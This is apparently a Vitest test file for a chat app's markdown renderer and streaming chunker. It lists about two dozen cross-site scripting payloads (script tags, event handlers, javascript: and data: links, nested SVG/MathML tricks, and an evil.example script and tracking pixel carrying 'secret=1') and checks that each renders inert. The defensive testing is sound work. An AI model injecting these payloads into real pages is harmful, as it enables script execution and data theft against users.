// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '$lib/response/markdown';
import { MarkdownChunker, markdownChunks } from '$lib/response/markdown-chunks';

/** Renders into a detached element and reports anything that could run script or fetch a URL. */
function activeParts(html: string): string[] {
	const root = document.createElement('div');
	root.innerHTML = html;
	const found: string[] = [];
	for (const el of root.querySelectorAll('*')) {
		const tag = el.tagName.toLowerCase();
		if (
			[
				'script',
				'iframe',
				'object',
				'embed',
				'style',
				'svg',
				'img',
				'form',
				'input',
				'link',
				'meta',
				'base',
				'math'
			].includes(tag)
		)
			found.push(`<${tag}>`);
		for (const attr of el.attributes) {
			if (
				/^on/i.test(attr.name) ||
				attr.name === 'style' ||
				attr.name === 'src' ||
				attr.name === 'srcdoc'
			)
				found.push(`${tag}[${attr.name}]`);
			if (
				['href', 'action', 'formaction', 'xlink:href'].includes(attr.name) &&
				!/^(https?:|mailto:|#)/i.test(attr.value.trim())
			)
				found.push(`${tag}[${attr.name}=${attr.value}]`);
		}
	}
	return found;
}

const XSS = [
	'<script>alert(1)</script>',
	'hello <script src="https://evil.example/x.js"></script>',
	'<img src=x onerror=alert(1)>',
	'<svg onload=alert(1)><circle r="1"/></svg>',
	'<svg><script>alert(1)</script></svg>',
	'<iframe src="javascript:alert(1)"></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<a href="javascript:alert(1)">x</a>',
	'[click](javascript:alert(1))',
	'[click](JaVaScRiPt:alert(1))',
	'[click](  javascript:alert(1))',
	'[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
	'[click](vbscript:msgbox(1))',
	'![x](data:image/svg+xml,<svg onload=alert(1)>)',
	'![x](https://evil.example/pixel.png?secret=1)',
	'<div style="background:url(javascript:alert(1))">x</div>',
	'<p style="width: expression(alert(1))">x</p>',
	'<style>body{background:red}</style>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
	'<form action="javascript:alert(1)"><button>go</button></form>',
	'<object data="javascript:alert(1)"></object>',
	'<details open ontoggle=alert(1)>',
	'<a href="https://ok.example" onclick="alert(1)">ok</a>',
	'[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
	'<base href="javascript:alert(1)//">',
	'```html\n<script>alert(1)</script>\n```'
];

describe('renderMarkdown', () => {
	it('has a checker that would catch active content', () => {
		expect(activeParts('<img src=x onerror=alert(1)><a href="javascript:x">y</a>')).toEqual([
			'<img>',
			'img[src]',
			'img[onerror]',
			'a[href=javascript:x]'
		]);
	});

	it.each(XSS)('renders %s inert', (src) => {
		expect(activeParts(renderMarkdown(src))).toEqual([]);
	});

	it('keeps ordinary markdown: emphasis, lists, tables, safe links', () => {
		const html = renderMarkdown(
			'**bold** and *it*\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n[site](https://example.com)'
		);
		expect(html).toContain('<strong>bold</strong>');
		expect(html).toContain('<li>a</li>');
		expect(html).toContain('<td>1</td>');
		expect(html).toMatch(
			/<a href="https:\/\/example.com" target="_blank" rel="noopener noreferrer nofollow">site<\/a>/
		);
	});

	it('highlights fenced code of a known language and escapes the rest', () => {
		expect(renderMarkdown('```ts\nconst x: number = 1;\n```')).toContain(
			'<span class="hljs-keyword">const</span>'
		);
		expect(renderMarkdown('```brainfuck\n<b>\n```')).toContain('&lt;b&gt;');
	});

	it('shows raw html as text instead of dropping it', () => {
		const root = document.createElement('div');
		root.innerHTML = renderMarkdown('a <script>alert(1)</script> b');
		expect(root.textContent).toContain('<script>alert(1)</script>');
	});
});

describe('markdownChunks', () => {
	it('splits at blank lines but never inside a code fence', () => {
		expect(markdownChunks('one\n\ntwo\n```\na\n\nb\n```\n\nthree')).toEqual([
			'one\n',
			'two\n```\na\n\nb\n```\n',
			'three'
		]);
	});

	it('loses no text', () => {
		const src = '# T\n\npara one\nline\n\n\n- x\n- y\n\n```py\nprint(1)\n\n```\ntail';
		expect(markdownChunks(src).join('\n').replace(/\n+/g, '\n')).toBe(src.replace(/\n+/g, '\n'));
	});
});

describe('MarkdownChunker', () => {
	const src =
		'# T\n\npara one\nline\n\n\n- x\n- y\n\n```py\nprint(1)\n\n```\n\n~~~\n\n~~~\ntail  \n\nend';

	it('gives the same chunks as a whole-text split at every length while the text grows', () => {
		const chunker = new MarkdownChunker();
		for (let n = 0; n <= src.length; n++)
			expect(chunker.chunks(src.slice(0, n)), `at ${n}`).toEqual(markdownChunks(src.slice(0, n)));
	});

	it('keeps closed chunks as the same strings when text is appended', () => {
		const chunker = new MarkdownChunker();
		const first = chunker.chunks('one\n\ntwo');
		expect(chunker.chunks('one\n\ntwo more')[0]).toBe(first[0]);
	});

	it('knows where every closed chunk starts, and where the open part starts', () => {
		const chunker = new MarkdownChunker();
		for (let n = 0; n <= src.length; n++) {
			const text = src.slice(0, n);
			chunker.feed(text);
			const closed = chunker.closed;
			closed.forEach((chunk, i) =>
				expect(text.slice(chunker.startOf(i)).startsWith(chunk), `at ${n}, chunk ${i}`).toBe(true)
			);
			// The closed chunks and their separators are exactly the text before the open part.
			const before = text.slice(0, chunker.startOf(closed.length));
			expect(before.replace(/\s+/g, ''), `at ${n}`).toBe(closed.join('').replace(/\s+/g, ''));
		}
	});

	it('starts over when the text is replaced rather than extended', () => {
		const chunker = new MarkdownChunker();
		chunker.chunks('one\n\ntwo');
		expect(chunker.chunks('```\na\n\nb')).toEqual(['```\na\n\nb']);
	});
});
